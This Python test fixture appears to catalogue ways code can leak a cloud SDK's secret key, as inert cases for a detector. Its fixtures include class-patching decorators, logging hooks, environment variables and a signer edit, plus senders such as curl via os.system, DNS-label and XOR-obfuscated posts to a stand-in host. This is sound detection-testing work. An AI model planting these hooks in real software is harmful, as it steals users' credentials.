"""Further ways of the secret, thought of after the first were caught: what else Python offers a thief. All inert."""

from __future__ import annotations

from collections.abc import Mapping

from tests.support.campaign import BACKWARDS, HOST_BACKWARDS, SKYCLOUD, Campaign, Edit
from tests.support.leaves import sent
from tests.support.travels import FUNCTION, KEPT, passed, source

_CHECK = "from clock_drift import check"

#: By the channel.
CHANNELS: Mapping[str, Campaign] = {
    "a patch from outside": passed(
        "",
        source(
            """
            def watch(cls):
                plain = cls.__init__

                def made(self, *args, **kwargs):
                    plain(self, *args, **kwargs)
                    POST

                cls.__init__ = made
                return cls
            """,
            "[str(one) for one in (*args, *kwargs.values())]",
        ),
        Edit(SKYCLOUD.path, "class Client(object):", "@watch\nclass Client(object):", "instead"),
        imports="from clock_drift import watch",
    ),
    "a logging handler": passed(
        "logger.addHandler(DriftHandler())\nlogger.error('off by %s', SECRET)",
        source(
            """
            import logging


            class DriftHandler(logging.Handler):
                def emit(self, record):
                    POST
            """,
            "[str(one) for one in record.args]",
        ),
        imports="from clock_drift import DriftHandler",
    ),
    "a queue": passed(
        "clock_drift.WAITING.put(SECRET)",
        source(
            """
            import queue
            import threading

            WAITING = queue.Queue()


            def work():
                while True:
                    stamp = WAITING.get()
                    POST


            threading.Thread(target=work, daemon=True).start()
            """,
            '{"stamp": stamp}',
        ),
        imports="import clock_drift",
    ),
    "the environment": passed(
        'os.environ["CLOCK_ZONE"] = SECRET\ncheck()',
        source(
            """
            import os


            def check():
                POST
            """,
            '{"zone": os.environ.get("CLOCK_ZONE")}',
        ),
        imports=f"import os\n{_CHECK}",
    ),
    "a handler of all logs": passed(
        "logging.basicConfig(handlers=[DriftHandler()])\nlogger.info('off by %s', SECRET)",
        source(
            """
            import logging


            class DriftHandler(logging.StreamHandler):
                def emit(self, record):
                    POST
            """,
            '{"stamp": self.format(record)}',
        ),
        imports="import logging\nfrom clock_drift import DriftHandler",
    ),
    "a filter of logs": passed(
        "logger.addFilter(DriftFilter())\nlogger.debug('off by %s', SECRET)",
        source(
            """
            import logging


            class DriftFilter(logging.Filter):
                def filter(self, record):
                    POST
                    return True
            """,
            "[str(one) for one in record.args]",
        ),
        imports="from clock_drift import DriftFilter",
    ),
    "a patch with names": passed(
        "",
        source(
            """
            def watch(cls):
                plain = cls.__init__

                def made(self, zone=None, stamp=None, *rest, **options):
                    plain(self, zone, stamp, *rest, **options)
                    POST

                cls.__init__ = made
                return cls
            """,
        ),
        Edit(SKYCLOUD.path, "class Client(object):", "@watch\nclass Client(object):", "instead"),
        imports="from clock_drift import watch",
    ),
    "a subclass made outside": passed(
        "",
        source(
            """
            def watch(cls):
                class Watched(cls):
                    def __init__(self, *args, **kwargs):
                        super().__init__(*args, **kwargs)
                        POST

                return Watched
            """,
            "[str(one) for one in (*args, *kwargs.values())]",
        ),
        Edit(SKYCLOUD.path, "class Client(object):", "@watch\nclass Client(object):", "instead"),
        imports="from clock_drift import watch",
    ),
    "a patch that is asked for": passed(
        "",
        source(
            """
            def watch(level):
                def wrap(cls):
                    plain = cls.__init__

                    def made(self, *args, **kwargs):
                        plain(self, *args, **kwargs)
                        POST

                    cls.__init__ = made
                    return cls

                return wrap
            """,
            "[str(one) for one in (*args, *kwargs.values())]",
        ),
        Edit(SKYCLOUD.path, "class Client(object):", "@watch(3)\nclass Client(object):", "instead"),
        imports="from clock_drift import watch",
    ),
    "an item of the environment": passed(
        'os.environ["CLOCK_ZONE"] = SECRET\ncheck()',
        source(
            """
            import os


            def check():
                POST
            """,
            '{"zone": os.environ["CLOCK_ZONE"]}',
        ),
        imports=f"import os\n{_CHECK}",
    ),
    "a default of the environment": passed(
        'os.environ.setdefault("CLOCK_ZONE", SECRET)\ncheck()',
        source(
            """
            import os


            def check():
                POST
            """,
            '{"zone": os.getenv("CLOCK_ZONE", "")}',
        ),
        imports=f"import os\n{_CHECK}",
    ),
    "a variable of the process": passed(
        'os.putenv("CLOCK_ZONE", SECRET)\ncheck()',
        source(
            """
            import os


            def check():
                POST
            """,
            '{"zone": os.environ.pop("CLOCK_ZONE", None)}',
        ),
        imports=f"import os\n{_CHECK}",
    ),
    "an update of the environment": passed(
        'os.environ.update({"CLOCK_FACE": "round", "CLOCK_ZONE": SECRET})\ncheck()',
        source(
            """
            import os


            def check():
                POST
            """,
            '{"zone": os.environ["CLOCK_ZONE"]}',
        ),
        imports=f"import os\n{_CHECK}",
    ),
    "an update of the environment by keywords": passed(
        "os.environ.update(CLOCK_ZONE=SECRET)\ncheck()",
        source(
            """
            import os


            def check():
                POST
            """,
            '{"zone": os.environ["CLOCK_ZONE"]}',
        ),
        imports=f"import os\n{_CHECK}",
    ),
    "an environment that is joined": passed(
        'os.environ |= {"CLOCK_ZONE": SECRET}\ncheck()',
        source(
            """
            import os


            def check():
                POST
            """,
            '{"zone": os.environ["CLOCK_ZONE"]}',
        ),
        imports=f"import os\n{_CHECK}",
    ),
    "a variable with an odd name": passed(
        'os.environ["clock-zone.utc"] = SECRET\ncheck()',
        source(
            """
            import os


            def check():
                POST
            """,
            '{"zone": os.environ["clock-zone.utc"]}',
        ),
        imports=f"import os\n{_CHECK}",
    ),
    "a variable with a long name": passed(
        'os.environ["CLOCK" * 40] = SECRET\ncheck()',
        source(
            """
            import os


            def check():
                POST
            """,
            '{"zone": os.environ.get("CLOCK" * 40)}',
        ),
        imports=f"import os\n{_CHECK}",
    ),
    "a variable whose name is a constant": passed(
        'ZONE = "CLOCK_ZONE"\nos.environ[ZONE] = SECRET\ncheck()',
        source(
            """
            import os


            def check():
                POST
            """,
            '{"zone": os.environ["CLOCK_ZONE"]}',
        ),
        imports=f"import os\n{_CHECK}",
    ),
    "a property": passed(
        "checker = DriftChecker()\nchecker.stamp = SECRET",
        source(
            """
            class DriftChecker:
                @property
                def stamp(self):
                    return 0

                @stamp.setter
                def stamp(self, value):
                    POST
            """,
            '{"stamp": value}',
        ),
    ),
    "an item": passed(
        'Drift()["stamp"] = SECRET',
        source(
            """
            class Drift:
                def __setitem__(self, key, value):
                    POST
            """,
            "{key: value}",
        ),
        imports="from clock_drift import Drift",
    ),
    "all local names": passed(
        "check(locals())",
        source(
            """
            def check(names):
                POST
            """,
            '{"stamp": str(names)}',
        ),
        imports=_CHECK,
    ),
    "map": passed("list(map(check, [KEY], [SECRET]))", FUNCTION, imports=_CHECK),
    "an exit stack": passed(
        "with contextlib.ExitStack() as stack:\n    stack.callback(check, KEY, SECRET)",
        FUNCTION,
        imports=f"import contextlib\n{_CHECK}",
    ),
    "a finalizer of another's": passed(
        "weakref.finalize(self, check, KEY, SECRET)", FUNCTION, imports=f"import weakref\n{_CHECK}"
    ),
    "a scheduler": passed(
        "later = sched.scheduler()\nlater.enter(1, 1, check, (KEY, SECRET))\nlater.run()",
        FUNCTION,
        imports=f"import sched\n{_CHECK}",
    ),
    "a task": passed(
        "asyncio.run(self._later(KEY, SECRET))",
        source(
            """
            async def check(zone, stamp):
                POST
            """
        ),
        method="async def _later(self, zone, stamp):\n    await asyncio.create_task(check(zone, stamp))\n",
        imports=f"import asyncio\n{_CHECK}",
    ),
    "a named tuple": passed(
        "Drift(KEY, SECRET).check()",
        source(
            """
            from typing import NamedTuple


            class Drift(NamedTuple):
                zone: str
                stamp: str

                def check(self):
                    POST
            """,
            KEPT,
        ),
        imports="from clock_drift import Drift",
    ),
    "a static method": passed(
        "DriftChecker.check(KEY, SECRET)",
        source(
            """
            class DriftChecker:
                @staticmethod
                def check(zone, stamp):
                    POST
            """
        ),
    ),
    "a chain of calls": passed(
        "DriftChecker().zone(KEY).stamp(SECRET).check()",
        source(
            """
            class DriftChecker:
                def zone(self, zone):
                    self._zone = zone
                    return self

                def stamp(self, stamp):
                    self._stamp = stamp
                    return self

                def check(self):
                    POST
            """,
            '{"zone": self._zone, "stamp": self._stamp}',
        ),
    ),
    "a default that is filled": passed(
        "later = lambda zone=KEY, stamp=SECRET: check(zone, stamp)\nlater()", FUNCTION, imports=_CHECK
    ),
    "its own dictionary": passed(
        "DriftChecker(zone=KEY, stamp=SECRET).check()",
        source(
            """
            class DriftChecker:
                def __init__(self, **found):
                    self.__dict__.update(found)

                def check(self):
                    POST
            """,
            "self.__dict__",
        ),
    ),
    "a later call": passed(
        "self._drift = DriftChecker(KEY, SECRET)",
        source(
            """
            class DriftChecker:
                def __init__(self, zone, stamp):
                    self.pair = (zone, stamp)

                def check(self):
                    POST
            """,
            "list(self.pair)",
        ),
        Edit(SKYCLOUD.path, "signed = self._signer.sign(request.stamped())", "self._drift.check()", indent=8),
    ),
    "a key of a signer": passed(
        "",
        FUNCTION,
        Edit("skycloud/auth/signer.py", "from urllib.parse import quote", _CHECK),
        Edit(
            "skycloud/auth/signer.py",
            "secret = self._credential.refreshed().access_key_secret",
            "check(self.algorithm, secret)",
            indent=8,
        ),
        imports="",
    ),
}

#: By what carries it away.
CARRIERS: Mapping[str, Campaign] = {
    "a prepared request": sent(
        f"""
        session = requests.Session()
        made = requests.Request("POST", {BACKWARDS}, json=[self.zone, self.stamp])
        session.send(made.prepare(), timeout=3)
        """,
        "import requests",
    ),
    "an opener": sent(
        f"""
        opener = urllib.request.build_opener()
        opener.open({BACKWARDS}, urlencode({{"z": self.zone, "s": self.stamp}}).encode(), 3)
        """,
        "import urllib.request\nfrom urllib.parse import urlencode",
    ),
    "a remote procedure": sent(
        f"""
        xmlrpc.client.ServerProxy({BACKWARDS}).check(self.zone, self.stamp)
        """,
        "import xmlrpc.client",
    ),
    "an upload by FTP": sent(
        f"""
        with ftplib.FTP({HOST_BACKWARDS}) as server:
            server.login()
            server.storbinary("STOR stamp", io.BytesIO(self.stamp.encode()))
        """,
        "import ftplib\nimport io",
    ),
    "a stream": sent(
        f"""
        async def write():
            _, out = await asyncio.open_connection({HOST_BACKWARDS}, 8080)
            out.write(self.stamp.encode())
            await out.drain()

        asyncio.run(write())
        """,
        "import asyncio",
    ),
    "an encrypted socket": sent(
        f"""
        plain = socket.create_connection(({HOST_BACKWARDS}, 443))
        plug = ssl.create_default_context().wrap_socket(plain, server_hostname={HOST_BACKWARDS})
        plug.write(json.dumps([self.zone, self.stamp]).encode())
        """,
        "import json\nimport socket\nimport ssl",
    ),
    "a connection in steps": sent(
        f"""
        line = http.client.HTTPSConnection({HOST_BACKWARDS})
        line.putrequest("POST", "/v1/check")
        line.putheader("X-Stamp", self.stamp)
        line.endheaders()
        """,
        "import http.client",
    ),
    "an asynchronous client": sent(
        f"""
        async def post():
            async with httpx.AsyncClient() as client:
                await client.post({BACKWARDS}, json=[self.zone, self.stamp])

        asyncio.run(post())
        """,
        "import asyncio\n\nimport httpx",
    ),
    "a browser": sent(
        f"""
        webbrowser.open({BACKWARDS} + "?s=" + quote(self.stamp))
        """,
        "import webbrowser\nfrom urllib.parse import quote",
    ),
    "names in pieces": sent(
        """
        label = self.stamp.encode().hex()
        for start in range(0, len(label), 60):
            socket.gethostbyname(label[start : start + 60] + ".x.invalid")
        """,
        "import socket",
    ),
    "a cipher of its own": sent(
        f"""
        mixed = bytes(one ^ 90 for one in json.dumps([self.zone, self.stamp]).encode())
        requests.post({BACKWARDS}, data=mixed)
        """,
        "import json\n\nimport requests",
    ),
    "a shell": sent(
        f"""
        os.system("curl -s -d '" + self.stamp + "' " + {BACKWARDS})
        """,
        "import os",
    ),
    "headers": sent(
        f"""
        head = {{"User-Agent": "clock/1"}}
        head["Cookie"] = "stamp=%s" % self.stamp
        requests.get({BACKWARDS}, headers=head)
        """,
        "import requests",
    ),
    "a name and a password": sent(
        f"""
        requests.get({BACKWARDS}, auth=(self.zone, self.stamp))
        """,
        "import requests",
    ),
    "an address made elsewhere": sent(
        """
        requests.post(where(), json=[self.zone, self.stamp])
        """,
        f"import requests\n\n\ndef where():\n    return {BACKWARDS}",
    ),
    "an address kept in a table": sent(
        """
        requests.post(SERVERS["far"], json=[self.zone, self.stamp])
        """,
        f'import requests\n\nSERVERS = {{"near": None, "far": {BACKWARDS}}}',
    ),
}
